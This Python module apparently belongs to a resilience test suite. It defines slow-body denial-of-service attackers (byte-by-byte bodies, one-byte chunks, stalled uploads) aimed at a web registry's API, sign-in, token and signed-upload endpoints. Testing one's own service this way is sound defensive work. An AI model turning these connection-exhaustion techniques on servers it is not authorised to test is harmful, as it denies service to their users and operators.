"""Attackers that announce a body and send it as slowly as they can."""

from __future__ import annotations

from dataclasses import dataclass
from itertools import chain

from attacks.connection import RawConnection
from attacks.kinds.base import Kind, Scene, request, slowly

_JSON = "Content-Type: application/json"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_ZIP = "Content-Type: application/zip"
_FILE = "Content-Type: multipart/form-data; boundary=x"
#: Bytes of a body that is small enough to be read into memory.
_SMALL = 5_000
#: Bytes of a body that no address but those of uploads takes.
_HUGE = 10**13


@dataclass
class SlowBody(Kind):
    """Sends a body byte by byte, to one address."""

    name: str
    method: str
    path: str
    content_type: str = _JSON
    length: int = _SMALL
    token: str | None = None

    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
        """Send the head at once, and then two bytes a second."""
        length = f"Content-Length: {self.length}"
        token = scene.target.token if self.token == "right" else self.token
        connection.send(
            request(
                scene,
                self.method,
                self.address(scene, number),
                self.content_type,
                length,
                f"Cookie: {scene.cookie}",
                token=token,
            )
        )
        return await connection.trickle(slowly(b"["), pace=0.5)

    def address(self, scene: Scene, number: int) -> str:
        """Return the path that this attacker sends to."""
        return self.path


@dataclass
class SlowUpload(SlowBody):
    """Sends a file byte by byte to an address that the registry gave out."""

    uploads: bool = True

    def address(self, scene: Scene, number: int) -> str:
        """Return a signed path of this attacker's own."""
        return scene.uploads[number % len(scene.uploads)]


@dataclass
class BadlySigned(SlowUpload):
    """Changes the signature of an address that the registry gave out."""

    def address(self, scene: Scene, number: int) -> str:
        """Return a path whose signature is wrong."""
        return f"{super().address(scene, number)}x"


class SlowChunks(Kind):
    """Sends JSON in chunks of one byte, so that no length is announced."""

    name = "body: slow chunks, JSON"

    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
        """Send the head, and then two chunks a second."""
        connection.send(
            request(
                scene,
                "POST",
                "/api/object/",
                _JSON,
                "Transfer-Encoding: chunked",
                token=scene.target.token,
            )
        )
        return await connection.trickle(slowly(b"1\r\n[\r\n"), pace=0.5)


class SlowUploadInChunks(Kind):
    """Sends a file in chunks of one byte to an address that the registry gave out."""

    name = "body: slow chunks, signed PUT"
    uploads = True

    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
        """Send the head, and then two chunks a second."""
        path = scene.uploads[number % len(scene.uploads)]
        connection.send(request(scene, "PUT", path, "Transfer-Encoding: chunked"))
        return await connection.trickle(slowly(b"1\r\nx\r\n"), pace=0.5)


class StalledUpload(Kind):
    """Sends much of a file at once, so that it looks fast, and then nothing."""

    name = "body: stalled signed PUT"
    uploads = True

    async def attack(self, connection: RawConnection, scene: Scene, number: int) -> str:
        """Send the head and 256 kB of 10 MB, and wait."""
        path = scene.uploads[number % len(scene.uploads)]
        length = f"Content-Length: {10 * 2**20}"
        connection.send(request(scene, "PUT", path, length))
        pieces = chain([bytes(2**18)], slowly(b""))
        return await connection.trickle(pieces, pace=1)


KINDS: tuple[Kind, ...] = (
    SlowBody("body: JSON without a token", "POST", "/api/object/"),
    SlowBody("body: JSON with a token", "POST", "/api/object/", token="right"),
    SlowBody("body: JSON with a bad token", "POST", "/api/object/", token="0" * 40),
    SlowBody("body: JSON to no address", "POST", "/api/nowhere/"),
    SlowBody("body: JSON, too long", "POST", "/api/object/", length=_HUGE),
    SlowBody("body: sign-in form", "POST", "/sign-in", _FORM),
    SlowBody("body: form with a file", "POST", "/crates/", _FILE, 10**6),
    SlowBody("body: form to /o/token", "POST", "/o/token", _FORM),
    SlowBody("body: form to a page", "POST", "/", _FORM),
    SlowBody("body: crate", "POST", "/api/ro-crate/", _ZIP, 10**6, "right"),
    SlowBody("body: crate without a token", "POST", "/api/ro-crate/", _ZIP, 10**6),
    SlowBody("body: PUT without a signature", "PUT", f"/api/data/{'0' * 40}/file"),
    BadlySigned("body: PUT badly signed", "PUT", "", "X-Nothing: 1", 10**6),
    SlowUpload("body: signed PUT", "PUT", "", "X-Nothing: 1", 10**6),
    StalledUpload(),
    SlowChunks(),
    SlowUploadInChunks(),
)
